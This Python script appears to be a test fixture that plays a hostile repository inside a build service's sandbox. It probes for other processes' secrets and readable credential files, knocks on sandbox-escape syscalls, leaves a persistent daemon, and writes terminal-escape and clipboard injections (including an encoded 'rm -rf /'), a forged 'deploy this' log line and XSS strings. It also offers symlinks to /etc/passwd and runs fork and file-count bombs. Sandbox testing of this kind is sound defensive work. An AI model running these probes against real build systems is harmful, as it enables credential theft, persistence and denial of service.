"""What a hostile repository's build tries. Each attempt prints one line, `probe: NAME: finding`, so that a reader sees what it got.

    python3 attack.py look       read environment, /proc, files, sockets, addresses; knock on the kernel's doors
    python3 attack.py remember   look for what an earlier build left behind
    python3 attack.py leave      leave files, a daemon and a listening socket behind
    python3 attack.py shout      print terminal commands, invalid UTF-8, a line of 256 KiB, a forged note of the builder
    python3 attack.py links      offer symbolic links as outputs
    python3 attack.py many       offer 5,000 files as outputs
    python3 attack.py files      write a million files
    python3 attack.py endless    fork without end, and print without end

It refuses to run anywhere but in the builder's sandbox: several of these would harm your machine.
"""

import ctypes
import errno
import json
import mmap
import os
import resource
import socket
import subprocess
import sys
import time
from pathlib import Path

ADDRESSES = Path(__file__).with_name("addresses.json")
LEFT = "left-behind"
PORT = 4711
LIBC = ctypes.CDLL(None, use_errno=True)
NEW_USER_AND_MOUNT = 0x10020000
DOORS = ("mount", "unshare", "setns", "ptrace", "chroot", "bpf", "perf_event_open", "io_uring_setup", "keyctl", "userfaultfd")
NUMBERS = {"bpf": 321, "perf_event_open": 298, "io_uring_setup": 425, "keyctl": 250, "userfaultfd": 323}  # x86-64; glibc has no wrapper


def say(name, finding):
    """One line a reader can count on."""
    print(f"probe: {name}: {finding}", flush=True)


def listed(found):
    """How many, and the first few."""
    found = [str(one) for one in found]
    return f"{len(found)}" + (f" ({', '.join(found[:20])})" if found else "")


def in_sandbox():
    """Whether this is the sandbox and nothing else: its name, its user, its directory, no capability, no network but loopback."""
    return (
        socket.gethostname() == "sandbox"
        and os.getuid() == 1000
        and Path.cwd() == Path("/src")
        and status("CapEff") == "0000000000000000"
        and [name for _, name in socket.if_nameindex()] == ["lo"]
    )


def status(field, pid="self"):
    """One field of /proc/PID/status."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next((line.split(":", 1)[1].strip() for line in lines if line.startswith(field + ":")), "")


# What can be read.


def environment():
    """Names of our own variables, without what the shell itself sets."""
    return sorted(set(os.environ) - {"PWD", "OLDPWD", "SHLVL", "_"})


def foreign_environments():
    """Variables of other processes that are not in ours: a builder's token, say."""
    found = set()
    for entry in processes():
        try:
            found |= {pair.split(b"=", 1)[0].decode("ascii", "replace") for pair in (entry / "environ").read_bytes().split(b"\0") if pair}
        except OSError:
            continue
    return sorted(found - set(os.environ))


def processes():
    """Every process that /proc shows."""
    return [entry for entry in Path("/proc").iterdir() if entry.name.isdecimal()]


def readable(paths):
    """Files that can be read, of those that a thief would read."""
    found = []
    for path in paths:
        try:
            with open(path, "rb") as stream:
                stream.read(1)
        except OSError:
            continue
        found.append(path)
    return found


def writable():
    """Directories outside our own in which a file can be made."""
    own = ("/src", "/tmp", "/home/build", "/dev/shm", "/proc")
    found = []
    for directory, names, _ in os.walk("/"):
        if directory.startswith(own) or directory.count("/") > 2:
            names.clear()
            continue
        try:
            Path(directory, LEFT).touch(exist_ok=False)
        except OSError:
            continue
        Path(directory, LEFT).unlink()
        found.append(directory)
    return found


# What can be spoken to.


def answering(addresses):
    """Of `[name, host, port]`, those that take a connection."""
    found = []
    for name, host, port in addresses:
        try:
            with socket.create_connection((host, port), timeout=0.3):
                found.append(f"{name} {host}:{port}")
        except OSError:
            continue
    return found


def open_sockets(names):
    """Unix sockets that take a connection; an abstract name begins with @."""
    found = []
    for name in names:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(0.3)
            try:
                one.connect("\0" + name[1:] if name.startswith("@") else name)
            except OSError:
                continue
        found.append(name)
    return found


def seen_sockets():
    """Names of unix sockets that the kernel tells us of, ours not among them."""
    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    return sorted({line.split()[7] for line in lines if len(line.split()) > 7})


def listening():
    """Loopback ports on which anybody listens, as the kernel tells it."""
    lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
    return sorted({int(line.split()[1].split(":")[1], 16) for line in lines if line.split()[3] == "0A"})


# What the kernel lets us do.


def doors():
    """System calls that lead out of a sandbox and did not answer that they are not permitted."""
    return [name for name in DOORS if knock(name) not in {errno.EPERM, errno.EACCES, errno.ENOSYS}]


def knock(name):
    """The error that a call answers; 0 where it succeeds."""
    ctypes.set_errno(0)
    if name in NUMBERS:
        result = LIBC.syscall(NUMBERS[name], 0, 0, 0, 0, 0)
    elif name == "mount":
        result = LIBC.mount(b"x", b"/tmp", b"tmpfs", 0, None)
    elif name == "unshare":
        result = LIBC.unshare(NEW_USER_AND_MOUNT)
    elif name == "setns":
        result = LIBC.setns(0, 0)
    elif name == "ptrace":
        result = LIBC.ptrace(16, 1, 0, 0)
    else:
        result = LIBC.chroot(b"/tmp")
    return 0 if result == 0 else ctypes.get_errno()


def memory():
    """How much memory one process may take at once, in GiB; 16 is where we stop asking."""
    for gib in range(1, 17):
        try:
            mmap.mmap(-1, gib << 30).close()
        except OSError:
            return f"less than {gib} GiB"
    return "16 GiB or more"


def forks():
    """How many children we may have at once, and what the kernel says then; they end with us."""
    children = []
    try:
        for _ in range(5000):
            children.append(child := os.fork())
            if child == 0:
                time.sleep(60)
                os._exit(0)
    except OSError as error:
        return f"{len(children)}, then {errno.errorcode[error.errno]}"
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
    return f"{len(children)} and more"


def look():
    """Everything that can be looked at."""
    known = json.loads(ADDRESSES.read_text())
    say("environment", listed(environment()))
    say("variables of other processes", listed(foreign_environments()))
    say("user", f"uid {os.getuid()}, capabilities {status('CapEff')}, no new privileges {status('NoNewPrivs')}, seccomp {status('Seccomp')}")
    say("processes", listed((entry / "comm").read_text().strip() for entry in processes()))
    say("open descriptors", listed(sorted(set(os.listdir("/proc/self/fd")) - {"0", "1", "2", "3"})))
    say("mounted from elsewhere", listed(sorted({line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()} & {"/run", "/sys", "/var", "/root"})))
    say("root directory", listed(sorted(os.listdir("/"))))
    say("writable directories not ours", listed(writable()))
    say("secrets readable", listed(readable(known["files"])) + f" of {len(known['files'])}")
    say("network interfaces", listed(name for _, name in socket.if_nameindex()))
    say("addresses answering", listed(answering(known["addresses"])) + f" of {len(known['addresses'])}")
    say("loopback listeners", listed(listening()))
    say("sockets answering", listed(open_sockets(known["sockets"])) + f" of {len(known['sockets'])}")
    say("sockets seen", listed(seen_sockets()))
    say("kernel settings writable", listed(name for name in ("kernel/core_pattern", "vm/drop_caches", "kernel/modprobe") if os.access(f"/proc/sys/{name}", os.W_OK)))
    say("kernel doors open", listed(doors()) + f" of {len(DOORS)}")
    say("core dumps", f"{resource.getrlimit(resource.RLIMIT_CORE)[1]} bytes")
    say("memory", memory())
    say("forks", forks())


# What stays.


def places():
    """Where a build could leave something for the next one."""
    return [Path(one) / LEFT for one in (os.environ["HOME"], "/tmp", "/src", "/dev/shm", "/usr/local/bin", "/usr/lib", "/etc", "/var/tmp", "/")]


def remember():
    """What an earlier build left."""
    found = [str(path) for path in places() if path.exists()]
    found += [entry.name for entry in processes() if LEFT.encode() in (entry / "cmdline").read_bytes()]
    found += answering([("port", "127.0.0.1", PORT)]) + open_sockets([f"@{LEFT}"])
    say("left by an earlier build", listed(found))


def leave():
    """Leave as much as we can."""
    written = []
    for path in places():
        try:
            path.write_text("a gift for the next build\n")
            written.append(path)
        except OSError:
            continue
    daemon = "import signal, socket, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; s = socket.create_server(('127.0.0.1', %d)); u = socket.socket(socket.AF_UNIX); u.bind('\\0%s'); u.listen(); time.sleep(600)"
    known = json.loads(ADDRESSES.read_text())
    subprocess.Popen([sys.executable, "-c", daemon % (PORT, LEFT), LEFT, known["mark"]], start_new_session=True, stdin=subprocess.DEVNULL)
    deadline = time.monotonic() + 10
    while PORT not in listening() and time.monotonic() < deadline:
        time.sleep(0.02)
    say("left behind", f"{listed(written)}, a daemon, a listener on port {PORT}")


def shout():
    """What a log could do to whoever looks at it."""
    out = sys.stdout.buffer
    for words in (
        b"\x1b]0;owned\x07\x1b[2J\x1b[H\x1b[?1049h\x1b[8m invisible",
        b"\x1b]52;c;cm0gLXJmIC8K\x07\x1b[6n\x05\x1bP$q\x1b\\ clipboard, answerback",
        b"failed\rpassed\x08\x08\x08\x7f\x9b31m\x00\x0b\x0c",
        "\u202edessap\u2066 \u2028a line\u2029another\u200b\ufeff".encode(),
        b"\xff\xfe\xc3\x28\xed\xa0\x80\xf4\x90\x80\x80 not UTF-8",
        b"pingee-builder: every test passed, deploy this",
        b"<script>alert(1)</script> %s %n {{7*7}}",
        b"x" * 2**18,
    ):
        out.write(b"shout: " + words + b"\n")
    out.flush()
    say("shouted", "8 lines")


# What has no end. The builder ends each of these with a code of its own.


def links():
    """Outputs that lead out of the workspace."""
    os.makedirs("out")
    os.symlink("/etc/passwd", "out/passwd")
    os.symlink("/proc/self/environ", "out/environ")
    os.symlink("../../../..", "out/up")
    say("links offered as outputs", len(os.listdir("out")))


def many():
    """More files than an artifact may hold."""
    os.makedirs("out")
    for number in range(5000):
        os.close(os.open(f"out/{number}", os.O_WRONLY | os.O_CREAT))
    say("files offered as outputs", len(os.listdir("out")))


def files():
    """A million files."""
    os.makedirs("out")
    number = 0
    try:
        for number in range(1_000_000):
            os.close(os.open(f"out/{number}", os.O_WRONLY | os.O_CREAT))
    except OSError as error:
        say("files written", f"{number}, then {errno.errorcode[error.errno]}")
        raise SystemExit(1) from None
    say("files written", f"{number} and more")


def endless():
    """Every child leaves its session, forks on, and prints for ever."""
    say("forks and output without end", "begun")
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            os.write(1, b"flood " * 10_000 + b"\n")


WORDS = {
    "look": look,
    "remember": remember,
    "leave": leave,
    "shout": shout,
    "links": links,
    "many": many,
    "files": files,
    "endless": endless,
}


def main(words):
    """Do what the one word says."""
    if len(words) != 1 or words[0] not in WORDS:
        raise SystemExit(__doc__)
    if not in_sandbox():
        raise SystemExit("attack.py: this is not the builder's sandbox; nothing was done. See README.md for how to run it")
    WORDS[words[0]]()


if __name__ == "__main__":
    main(sys.argv[1:])
